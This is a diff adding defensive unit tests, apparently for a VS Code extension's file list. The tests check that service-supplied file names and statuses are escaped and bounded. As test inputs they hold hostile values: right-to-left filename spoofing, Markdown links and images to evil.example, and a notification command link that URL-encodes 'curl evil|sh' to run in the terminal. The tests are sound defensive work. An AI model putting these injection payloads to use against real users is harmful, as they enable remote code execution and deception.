@@ -2,7 +2,17 @@
 import { strict as assert } from 'node:assert';
 import type { FileInfo } from '../../src/api/types';
 import { describeFileList } from '../../src/volumes/core/fileDeletion';
-import { fileAccessibleLabel, fileDescription, fileTooltipMarkdown, volumeAccessibleLabel, parseServiceDate, sortFiles, statusIconId } from '../../src/volumes/core/fileDisplay';
+import {
+  fileAccessibleLabel,
+  fileDescription,
+  fileRowLabel,
+  fileTooltipMarkdown,
+  revealFailureMessage,
+  volumeAccessibleLabel,
+  parseServiceDate,
+  sortFiles,
+  statusIconId,
+} from '../../src/volumes/core/fileDisplay';
 import { nameMatcher } from '../../src/volumes/core/fileSearch';
 import { volumeNameProblem } from '../../src/common/core/volumeTargets';
 
@@ -46,6 +56,40 @@ describe('volumes: display rules', () => {
     assert.match(md, /no filter can read it/);
   });
 
+  it("shows the service's name, id, status and detail escaped and bounded in the row and the tooltip", () => {
+    const hostile = file({
+      filename: `invoice\u202Egpj.exe\n**Status: done**${'x'.repeat(100_000)}`,
+      uuid: 'u1` [open](https://evil.example) `',
+      status: 'weird`\n\n![x](https://evil.example/pixel.png)',
+      statusDetail: '<img src=x> &#x202E; [click](https://evil.example)\n# Heading',
+      date: '[d](https://evil.example)',
+    });
+    const label = fileRowLabel(hostile);
+    assert.ok(label.startsWith('invoice\\u202egpj.exe\\n**Status'), label.slice(0, 40));
+    assert.ok(label.length <= 255, 'a 100 KB name is cut in the row');
+    assert.ok(!/[\u0000-\u001f\u202e]/.test(fileDescription(hostile) + fileAccessibleLabel(hostile)));
+    assert.ok(fileDescription(hostile).length < 60, fileDescription(hostile));
+    const md = fileTooltipMarkdown(hostile, 'team', 'en-US');
+    assert.ok(md.length < 5000, 'the tooltip is bounded');
+    assert.ok(!md.includes('\u202E'));
+    // Every line is one of ours: the service's newlines are escaped, so no field is forged.
+    assert.equal(md.split('\n').filter((l) => l.trim()).length, 7, md);
+    // No Markdown link, image, HTML tag or entity survives unescaped.
+    assert.equal(/(?<!\\)\[[^\]]*(?<!\\)\]\(/.exec(md.replace(/`[^`\n]*`/g, '')), null, md);
+    assert.equal(/(?<!\\)</.exec(md.replace(/`[^`\n]*`/g, '')), null);
+    assert.equal(/(?<!\\)&#/.exec(md), null);
+    for (const span of md.match(/`[^`\n]*`/g) ?? []) assert.ok(!span.slice(1, -1).includes('`'));
+  });
+
+  it("a reveal that cannot show the file quotes the citation's volume and id as text (a notification runs [..](command:..) links)", () => {
+    const link = '[Add it now](command:workbench.action.terminal.sendSequence?%7B%7D)';
+    for (const message of [revealFailureMessage('volumeNotShown', link, 'f'), revealFailureMessage('fileNotFound', 'team', `${link}\u202E${'x'.repeat(10_000)}`)]) {
+      assert.equal(/\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+\)/i.exec(message), null, message);
+      assert.ok(!message.includes('\u202E') && message.length < 400, message.slice(0, 200));
+    }
+    assert.equal(revealFailureMessage('fileNotFound', 'team', 'u1'), 'File u1 was not found in team (it may have been deleted).');
+  });
+
   it('sorts loaded files by name (natural), date (newest first) and size (largest first)', () => {
     const files = [
       file({ uuid: '1', filename: 'f10', date: '20260101000000', filesize: 5 }),
@@ -87,6 +131,17 @@ describe('volumes: display rules', () => {
     assert.equal(describeFileList(['a', 'b', 'c', 'd', 'e']), '"a", "b", "c" and 2 more');
   });
 
+  it("quotes the service's file names in the delete confirmation and notifications bounded, escaped and without links", () => {
+    // A notification makes `[label](command:…)` a link that runs the command (VS Code's parseLinkedText).
+    const link = '[Undo delete](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cr%22%7D)';
+    const text = describeFileList([link, 'invoice\u202Egpj.exe', 'two\nlines', 'x'.repeat(100_000)]);
+    assert.equal(/\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+\)/i.exec(text), null, text);
+    assert.ok(text.includes('"invoice\\u202egpj.exe"'), text);
+    assert.ok(text.includes('"two\\nlines"'), text);
+    assert.ok(text.length < 500, 'a 100 KB name is cut');
+    assert.equal(describeFileList(['x'.repeat(100_000)]).length, 122, 'at most 120 characters of one name, quoted');
+  });
+
   it('matches file names by substring, or with * and ? wildcards', () => {
     assert.ok(nameMatcher('Report')('q3-report.pdf'));
     assert.ok(!nameMatcher('report')('summary.pdf'));
@@ -106,5 +161,16 @@ describe('volumes: display rules', () => {
     assert.ok(nameMatcher('reports/**/*.pdf')('reports/2026/q3.pdf'));
     assert.ok(nameMatcher('.env*')('.env.local'), 'dot files match');
     assert.ok(nameMatcher('a\\b*')('a\\bc'), 'a backslash is literal');
+  });
+
+  it("matches a wildcard filter against the service's names without backtracking: a 100 KB name and five * answer at once", () => {
+    const hostile = 'a'.repeat(100_000);
+    assert.equal(nameMatcher('*a*a*a*a*b')(hostile), false);
+    assert.equal(nameMatcher('*a*a*a*a*')(hostile), true);
+    assert.equal(nameMatcher('**/*a*a*b')(`${'a/'.repeat(2000)}c`), false);
+    assert.ok(nameMatcher('reports/**/*.pdf')('reports/q3.pdf'), 'a ** folder also stands for none');
+    assert.ok(nameMatcher('**/*.pdf')('a/b/c.pdf'));
+    assert.ok(!nameMatcher('a*c/*')('ab/c/d'), '* does not cross a folder');
+    assert.ok(nameMatcher('x/a**c')('x/ab/c'), '** inside a segment crosses folders');
   });
 });
